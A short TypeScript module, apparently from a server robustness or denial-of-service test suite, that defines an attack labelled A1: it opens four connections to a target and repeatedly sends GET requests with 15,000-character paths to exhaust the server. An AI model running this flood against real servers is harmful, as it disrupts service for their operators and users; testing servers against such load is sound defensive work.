import { requestHead, openConnections, type Attack, type Target } from './attack.ts'

/** A1: requests addresses of 15 KB of one letter, one after the other on each connection. */
export function askForLongPaths(target: Target): Attack {
  const request = requestHead(target, `GET /assets/${'a'.repeat(15_000)}`)
  return openConnections(target, 4, (socket) => {
    socket.write(request)
    socket.on('data', () => socket.writable && socket.write(request))
  })
}
